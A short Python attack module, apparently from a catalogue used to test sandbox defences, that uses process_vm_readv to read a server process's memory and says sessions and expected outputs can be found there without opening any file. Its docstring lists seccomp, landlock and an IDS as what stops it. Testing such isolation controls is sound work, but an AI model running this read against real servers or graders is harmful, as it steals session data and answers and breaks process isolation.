"""Read memory of the server by the call that is made for it.

Expected outputs and sessions are in there, and no file has to be opened.

Stopped by: seccomp, landlock, ids
"""

import ctypes

from calls import called, libc


class Range(ctypes.Structure):
    """A piece of memory."""

    _fields_ = (("base", ctypes.c_void_p), ("size", ctypes.c_size_t))


def attack(facts):
    buffer = ctypes.create_string_buffer(1)
    here, there = Range(ctypes.addressof(buffer), 1), Range(facts["address"], 1)
    called(libc.process_vm_readv(facts["server"], ctypes.byref(here), 1, ctypes.byref(there), 1, 0))
